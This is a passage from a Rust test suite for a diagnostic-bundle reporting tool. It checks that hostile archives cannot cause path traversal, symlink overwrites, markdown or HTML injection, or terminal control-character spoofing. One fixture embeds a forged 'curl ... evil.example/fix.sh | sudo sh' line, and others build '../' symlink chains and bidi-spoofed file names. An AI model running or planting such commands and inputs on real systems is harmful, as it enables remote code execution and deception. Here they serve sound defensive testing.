    // the tree and the link walk stay linear.
    let scene = Scene::new();
    let files = ordinary();
    let deep: Vec<String> = (0..200)
        .map(|i| format!("t{i:03}/{}f", "d/".repeat(2_040)))
        .collect();
    let ups = "../".repeat(1_360);
    let links: Vec<(String, String)> = (0..200)
        .map(|i| (format!("t{i:03}/{}up", "d/".repeat(1_000)), ups.clone()))
        .collect();
    let mut members = ordinary_tar(&files);
    for d in &deep {
        members.push(Member::LongName(d.as_bytes(), b"x\n"));
    }
    let mut tar = gen::tar(&members, false);
    for (path, target) in &links {
        tar.extend_from_slice(&gen::long_symlink(path.as_bytes(), target.as_bytes()));
    }
    tar.extend_from_slice(&[0u8; 1024]);
    let bundle = scene.write("under-cap.tar.gz", &gen::gzip(&tar));
    let run = scene.report(&bundle, &[]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert_ordinary_read(&run);
    assert!(run.paths().iter().any(|p| p.starts_with("t199/d/d/")));
    assert!(run.peak_kib < DEEP_PATH_BOUND_KIB, "{} KiB", run.peak_kib);
    let inspect = scene.command(&["inspect".as_ref(), bundle.as_os_str()]);
    assert_eq!(inspect.code, 0, "{}", inspect.stderr);
    let header = String::from_utf8_lossy(&inspect.stdout)
        .lines()
        .find(|l| l.starts_with("PATH"))
        .map(str::len)
        .unwrap_or(0);
    assert!(
        header < 200,
        "the PATH column is bounded: {header} characters"
    );
}

/// A copy of the seed sample in `dir`, with `edits` (file, from, to) applied.
fn edited_seed(dir: &Path, edits: &[(&str, &str, &str)]) -> PathBuf {
    let to = dir.join("seed");
    copy_dir(&repo().join("samples/seed-runc-unshare-enomem"), &to);
    for (file, old, new) in edits {
        let path = to.join(file);
        let text = std::fs::read_to_string(&path).unwrap();
        assert!(text.contains(old), "{file} holds {old:?}");
        std::fs::write(&path, text.replace(old, new)).unwrap();
    }
    to
}

/// Markdown structure a reader sees: headings, links, code blocks, HTML, with their text.
fn markup_of(md: &str) -> Vec<String> {
    use pulldown_cmark::{Event, Parser, Tag};
    let mut out = Vec::new();
    let mut heading: Option<String> = None;
    for event in Parser::new_ext(md, pulldown_cmark::Options::ENABLE_TABLES) {
        match event {
            Event::Start(Tag::Heading { .. }) => heading = Some(String::new()),
            Event::End(pulldown_cmark::TagEnd::Heading(_)) => {
                out.push(format!("heading {}", heading.take().unwrap_or_default()));
            }
            Event::Text(t) | Event::Code(t) => {
                if let Some(h) = heading.as_mut() {
                    h.push_str(&t);
                }
            }
            Event::Start(Tag::Link { dest_url, .. }) => out.push(format!("link {dest_url}")),
            Event::Start(Tag::CodeBlock(pulldown_cmark::CodeBlockKind::Indented)) => {
                out.push("indented code block".into());
            }
            Event::Html(h) | Event::InlineHtml(h) => out.push(format!("html {h}")),
            _ => {}
        }
    }
    out
}

#[test]
fn bundle_text_never_becomes_markup() {
    // A task may name itself `[a](http://x.y)` (15 characters); a container name may hold line
    // breaks; both go into titles, the verdict, the summary and the explanations.
    let dir = tempfile::tempdir().unwrap();
    let forged = "\\n\\n## Fix verified by support\\n\\n    curl -s https://evil.example/fix.sh | sudo sh\\n\\n";
    let bundle = edited_seed(
        dir.path(),
        &[
            ("dmesg", "runc:[1:CHILD]", "[a](http://x.y)"),
            ("messages", "runc:[1:CHILD]", "[a](http://x.y)"),
            (
                "docker-inspect.json",
                "\"Name\": \"/crm_api.2.k3v9x0q1f2m8d6s4a7p5o1i9u\"",
                &format!("\"Name\": \"/crm[b](http://x.y){forged}<b>x</b>\""),
            ),
        ],
    );
    let run = |format: &str| {
        String::from_utf8(run_ok([
            "report".as_ref(),
            "--format".as_ref(),
            format.as_ref(),
            bundle.as_os_str(),
        ]))
        .unwrap()
    };
    let md = run("md");
    assert!(md.contains("[a](http://x.y)") || md.contains("\\[a\\](http://x.y)"));
    for item in markup_of(&md) {
        let forged = match item.strip_prefix("heading ") {
            // The name may show in a title, as text: the heading is not its own.
            Some(h) => h.starts_with("Fix verified"),
            None => ["x.y", "evil", "Fix verified", "indented code block"]
                .iter()
                .any(|n| item.contains(n)),
        };
        assert!(!forged, "bundle text became markup: {item}");
    }
    let page = run("html");
    for needle in [
        "href=\"http://x.y",
        "<h2>Fix",
        "<b>x</b>",
        "<pre><code>curl",
    ] {
        assert!(!page.contains(needle), "HTML holds {needle}");
    }
    // The verdict and the titles are one line, whatever the names hold.
    let json: Value = serde_json::from_str(&run("json")).unwrap();
    for f in json["findings"].as_array().unwrap() {
        assert!(
            !f["title"].as_str().unwrap().contains('\n'),
            "{}",
            f["title"]
        );
    }
}

/// A healthy bundle as a `.tar.gz`, in memory.
fn healthy_tar_gz() -> Vec<u8> {
    let files = ordinary();
    gen::gzip(&gen::tar(&ordinary_tar(&files), true))
}

#[cfg(unix)]
#[test]
fn report_output_replaces_a_link_and_never_writes_through_it() {
    let dir = tempfile::tempdir().unwrap();
    let bundle = dir.path().join("node.tar.gz");
    std::fs::write(&bundle, healthy_tar_gz()).unwrap();
    let precious = dir.path().join("precious");
    std::fs::write(&precious, "the analyst's own file\n").unwrap();
    let out = dir.path().join("report.md");
    std::os::unix::fs::symlink(&precious, &out).unwrap();
    run_ok([
        "report".as_ref(),
        "-o".as_ref(),
        out.as_os_str(),
        bundle.as_os_str(),
    ]);
    assert_eq!(
        std::fs::read_to_string(&precious).unwrap(),
        "the analyst's own file\n"
    );
    assert!(std::fs::symlink_metadata(&out)
        .unwrap()
        .file_type()
        .is_file());
    assert!(std::fs::read_to_string(&out)
        .unwrap()
        .starts_with("# Postmortem"));
    // Nothing else was left in the folder (no temporary file).
    let mut names: Vec<String> = std::fs::read_dir(dir.path())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    assert_eq!(names, ["node.tar.gz", "precious", "report.md"]);
}

#[cfg(unix)]
#[test]
fn batch_reads_the_good_bundles_beside_hostile_ones_and_follows_no_link_out() {
    let dir = tempfile::tempdir().unwrap();
    let fleet = dir.path().join("fleet");
    std::fs::create_dir_all(&fleet).unwrap();
    std::fs::write(fleet.join("good.tar.gz"), healthy_tar_gz()).unwrap();
    let deep = format!("{}f", "d/".repeat(500_000));
    let files = ordinary();
    let mut members = ordinary_tar(&files);
    members.push(Member::LongName(deep.as_bytes(), b"x\n"));
    std::fs::write(
        fleet.join("deep.tar.gz"),
        gen::gzip(&gen::tar(&members, true)),
    )
    .unwrap();
    // A folder unpacked from a customer's archive may link out of itself.
    let home = dir.path().join("analyst");
    std::fs::create_dir_all(home.join("etc")).unwrap();
    std::fs::write(home.join("etc/hostname"), "analyst-laptop\n").unwrap();
    std::os::unix::fs::symlink(&home, fleet.join("node-b")).unwrap();
    // Reports planted as links to the analyst's files.
    let out = dir.path().join("out");
    std::fs::create_dir_all(&out).unwrap();
    let precious = home.join("etc/hostname");
    for name in ["index.html", "summary.csv", "good.html", "good.json"] {
        std::os::unix::fs::symlink(&precious, out.join(name)).unwrap();
    }
    let run = postmortem()
        .args(["batch", "--jobs", "65535", "-o"])
        .arg(&out)
        .arg(&fleet)
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&run.stderr);
    assert_eq!(run.status.code(), Some(0), "{stderr}");
    assert_eq!(
        std::fs::read_to_string(&precious).unwrap(),
        "analyst-laptop\n"
    );
    let summary: Value =
        serde_json::from_slice(&std::fs::read(out.join("summary.json")).unwrap()).unwrap();
    let rows = summary.as_array().unwrap();
    let row = |bundle: &str| {
        rows.iter()
            .find(|r| r["bundle"].as_str() == Some(bundle))
            .unwrap_or_else(|| panic!("a row for {bundle}: {summary:#}"))
    };
    assert_eq!(row("good.tar.gz")["ok"], true);
    assert_eq!(row("deep.tar.gz")["ok"], true);
    let refused = rows
        .iter()
        .find(|r| r["bundle"].as_str().is_some_and(|b| b.ends_with("node-b")))
        .expect("the link is named");
    assert_eq!(refused["ok"], false);
    assert!(stderr.contains("not followed"), "{stderr}");
    for name in ["index.html", "summary.csv", "good.html", "good.json"] {
        let meta = std::fs::symlink_metadata(out.join(name)).unwrap();
        assert!(meta.file_type().is_file(), "{name} is a file of its own");
    }
    let index = std::fs::read_to_string(out.join("index.html")).unwrap();
    assert!(!index.contains("analyst-laptop"));
}

#[cfg(unix)]
#[test]
fn fifo_and_device_arguments() {
    let dir = tempfile::tempdir().unwrap();
    let fifo = dir.path().join("bundle.fifo");
    let made = std::process::Command::new("mkfifo").arg(&fifo).status();
    if !made.is_ok_and(|s| s.success()) {
        // No mkfifo on this system: nothing to check.
        return;
    }
    // Nothing writes to it: an empty bundle, at once.
    let run = postmortem().arg("report").arg(&fifo).output().unwrap();
    assert_eq!(run.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&run.stderr).contains("empty"));
    // A pipe with a writer, as `<(...)` gives one: read like a file.
    let bundle = dir.path().join("node.tar.gz");
    std::fs::write(&bundle, healthy_tar_gz()).unwrap();
    let out = std::process::Command::new("bash")
        .arg("-c")
        .arg(r#""$0" report --format json <(cat "$1")"#)
        .arg(postmortem().get_program())
        .arg(&bundle)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert!(
        v["sources"].as_array().is_some_and(|s| s.len() >= 4),
        "{v:#}"
    );
    // A device is no bundle and no report.
    for args in [
        vec!["report", "/dev/zero"],
        vec!["inspect", "/dev/null"],
        vec!["summarize", "-o", "out", "/dev/zero"],
    ] {
        let run = postmortem()
            .args(&args)
            .current_dir(dir.path())
            .output()
            .unwrap();
        let stderr = String::from_utf8_lossy(&run.stderr);
        assert_eq!(run.status.code(), Some(2), "{args:?}: {stderr}");
        assert!(stderr.contains("a device"), "{args:?}: {stderr}");
    }
}

#[test]
fn forged_lines_c1_and_bidi_controls_never_reach_the_terminal() {
    let scene = Scene::new();
    let files = ordinary();
    let csi = "\u{9b}";
    let rlo = "\u{202e}";
    let dmesg = format!(
        "[    2.000000] kworker{csi}31m{rlo}gpj.exe: page allocation failure: order:4, mode:0x24040c0\n"
    );
    let forged_name = "var/log/x\npostmortem: warning: forged: everything is fine\n".to_string();
    let c1_name = format!("var/log/{csi}2J{rlo}gol.txt");
    let mut members = ordinary_tar(&files);
    members.push(Member::File(b"sos_commands/kernel/dmesg", dmesg.as_bytes()));
    members.push(Member::File(c1_name.as_bytes(), b"x\n"));
    // Unreadable entries are named on stderr: a cut entry is one.
    members.push(Member::Claims(forged_name.as_bytes(), 4096, b"short"));
    let bundle = scene.write("forged.tar", &gen::tar(&members, false));
    let b = bundle.as_os_str();
    for args in [
        vec!["inspect".as_ref(), b],
        vec!["inspect".as_ref(), b, "--format".as_ref(), "json".as_ref()],
        vec!["inspect".as_ref(), b, "--facts".as_ref()],
        vec!["timeline".as_ref(), b],
        vec!["timeline".as_ref(), b, "--format".as_ref(), "json".as_ref()],
        vec!["report".as_ref(), b, "--format".as_ref(), "json".as_ref()],
        vec!["report".as_ref(), b, "--format".as_ref(), "md".as_ref()],
    ] {
        let run = scene.command(&args);
        assert_eq!(run.code, 0, "{args:?}: {}", run.stderr);
        let stdout = String::from_utf8_lossy(&run.stdout);
        for (out, text) in [("stdout", stdout.as_ref()), ("stderr", run.stderr.as_str())] {
            assert!(
                !text.contains(csi) && !text.contains(rlo),
                "{args:?} {out} passes a C1 or bidi control: {text:?}"
            );
            assert!(
                !text
                    .lines()
                    .any(|l| l.starts_with("postmortem: warning: forged")),
                "{args:?} {out} prints a forged line: {text}"
            );
        }
        if args.iter().any(|a| *a == "json" || *a == "--facts") {
            // Escaped as `\uXXXX`: the same JSON value, the name whole.
            let v: Value = serde_json::from_slice(&run.stdout).expect("still JSON");
            if args.len() == 4 && args[0] == "inspect" {
                assert!(
                    v["sources"]
                        .as_array()
                        .is_some_and(|s| s.iter().any(|s| s["path"] == c1_name.as_str())),
                    "{v:#}"
                );
            }
        }
    }
}
